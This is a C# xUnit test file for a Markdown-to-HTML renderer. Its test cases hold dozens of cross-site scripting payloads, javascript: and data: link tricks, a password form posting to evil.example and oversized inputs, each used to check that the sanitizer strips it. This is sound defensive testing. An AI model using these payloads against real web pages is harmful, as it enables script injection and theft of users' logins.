using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CozeLoop.Studio.Controls;
using Xunit;

namespace CozeLoop.Studio.Tests.Controls;

public class MarkdownHtmlTests
{
    /// <summary>All that may come out; what is not named here is an attack that came through.</summary>
    private static readonly string[] Elements =
    [
        .. "p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong del a table thead tbody tr th td".Split(' '),
    ];
    private static readonly string[] Attributes = ["href", "title", "start", "style", "target", "rel", "role"];

    [Theory]
    [InlineData("# Title", """<h1 role="presentation">Title</h1>""")]
    [InlineData("**bold** *slanted* ~~gone~~", "<p><strong>bold</strong> <em>slanted</em> <del>gone</del></p>")]
    [InlineData("one\ntwo", "<p>one<br>\ntwo</p>")]
    [InlineData("**注意：**请先确认", "<p><strong>注意：</strong>请先确认</p>")]
    [InlineData("3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>")]
    [InlineData("- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>")]
    [InlineData("```js\nlet a = \"<b>\";\n```", "<pre><code>let a = \"&lt;b&gt;\";\n</code></pre>")]
    public void What_models_write_is_rendered(string text, string html) => Assert.Equal(html, Of(text).Trim());

    [Fact]
    public void A_table_keeps_its_alignment()
    {
        string html = Of("| item | n |\n|------|--:|\n| seat | 2 |");
        Assert.Equal(["item", "n", "seat", "2"], Parsed(html).QuerySelectorAll("th, td").Select(c => c.TextContent));
        Assert.Equal("text-align: right", Parsed(html).QuerySelectorAll("td")[1].GetAttribute("style"));
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("a <img src=x onerror=alert(1)> b")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<div style=\"background:url(javascript:alert(1))\">x</div>")]
    [InlineData("<a style=\"width:expression(alert(1))\" href=x>x</a>")]
    [InlineData("<style>@import 'http://evil.example/x.css'</style>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<form action=//evil.example><input name=password><button>go</button></form>")]
    [InlineData("<b><i><a href=javascript:alert(1)><p></b><td></i></a><svg></p>")]
    [InlineData("</div></section><script>alert(1)//")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("`<img src=x onerror=alert(1)>`")]
    [InlineData("    <img src=x onerror=alert(1)>")]
    [InlineData("```\"><img src=x onerror=alert(1)>\nx\n```")]
    [InlineData("```a\" onmouseover=\"alert(1)\nx\n```")]
    [InlineData("[x](http://a.example \"t\\\" onmouseover=\\\"alert(1)\")")]
    [InlineData("[x](http://a.example/\"onmouseover=\"alert(1))")]
    [InlineData("![\"onerror=\"alert(1)](http://a.example/x.png)")]
    [InlineData("| <script>alert(1)</script> | b |\n|--|--|\n| <svg onload=alert(1)> | d |")]
    [InlineData("# <object data=x></object> {onclick=alert(1)}")]
    [InlineData("::: {onclick=alert(1)}\nx\n:::")]
    [InlineData("a&lt;script&gt;alert(1)&lt;/script&gt;")]
    public void Nothing_that_runs_or_loads_comes_through(string text)
    {
        var body = Parsed(Of(text));
        Assert.All(body.Descendants<IElement>(), e => Assert.Contains(e.LocalName, Elements));
        Assert.All(body.Descendants<IElement>().SelectMany(e => e.Attributes), a => Assert.Contains(a.Name, Attributes));
        Assert.All(
            body.QuerySelectorAll("[style]"),
            e => Assert.StartsWith("text-align:", e.GetAttribute("style"), StringComparison.Ordinal)
        );
        Assert.NotEqual("", body.TextContent.Trim());
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](java&Tab;script:alert(1))")]
    [InlineData("[x](<\u0001javascript:alert(1)>)")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[x](vbscript:msgbox)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x](//evil.example/a)")]
    [InlineData("[x](/workspace/7)")]
    [InlineData("[x](settings)")]
    [InlineData("[x](#top)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x][y]\n\n[y]: javascript:alert(1)")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](data:image/svg+xml;base64,PHN2Zz4=)")]
    [InlineData("ftp://files.example/a tel:112")]
    public void A_link_leads_to_another_site_or_nowhere(string text)
    {
        string html = Of(text);
        Assert.DoesNotContain("href", html, StringComparison.Ordinal);
        Assert.DoesNotContain("src", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[docs](https://a.example/b?c=d&e=f#g \"help\")", "https://a.example/b?c=d&e=f#g")]
    [InlineData("see http://a.example/b.", "http://a.example/b")]
    [InlineData("<ada@a.example>", "mailto:ada@a.example")]
    public void A_link_opens_elsewhere_and_tells_nobody_where_it_was(string text, string address)
    {
        var link = Parsed(Of(text)).QuerySelector("a")!;
        Assert.Equal(address, link.GetAttribute("href"));
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
    }

    [Theory]
    [InlineData("![a cat](https://a.example/cat.png)", "image: a cat", "https://a.example/cat.png")]
    [InlineData("![](https://a.example/cat.png)", "image: https://a.example/cat.png", "https://a.example/cat.png")]
    [InlineData("[![badge](https://a.example/b.svg)](https://b.example)", "image: badge", "https://b.example")]
    public void An_image_is_not_loaded_but_linked(string text, string words, string address)
    {
        var link = Assert.Single(Parsed(Of(text)).QuerySelectorAll("a"));
        Assert.Equal((words, address), (link.TextContent, link.GetAttribute("href")));
    }

    /// <summary>Bounds, not times: each would cost seconds or hundreds of megabytes without them.</summary>
    [Theory]
    [InlineData("> ", 2_000, "deep")]
    [InlineData("[", 2_000, "](u)")]
    [InlineData("![", 2_000, "](u)")]
    [InlineData("a", MarkdownHtml.Longest + 1, "")]
    [InlineData("|a", 2_000, "\n|-\n|b\n|b\n|b")]
    public void What_is_too_long_or_too_deep_is_not_rendered(string part, int times, string end)
    {
        Assert.Null(MarkdownHtml.Of(string.Concat(Enumerable.Repeat(part, times)) + end, "image"));
    }

    [Fact]
    public void The_longest_text_is_rendered() => Assert.NotNull(MarkdownHtml.Of(new string('a', MarkdownHtml.Longest), "image"));

    [Theory]
    [InlineData("{\"a_b\": \"c_d\"}", true)]
    [InlineData(" [1, 2]\n", true)]
    [InlineData("[docs](https://a.example) and [more]", false)]
    [InlineData("{not json}", false)]
    [InlineData("plain", false)]
    [InlineData("", false)]
    public void Data_is_told_from_words(string text, bool isJson) => Assert.Equal(isJson, MarkdownHtml.IsJson(text));

    private static string Of(string text) => MarkdownHtml.Of(text, "image")!;

    private static IElement Parsed(string html) => new HtmlParser().ParseDocument(html).Body!;
}
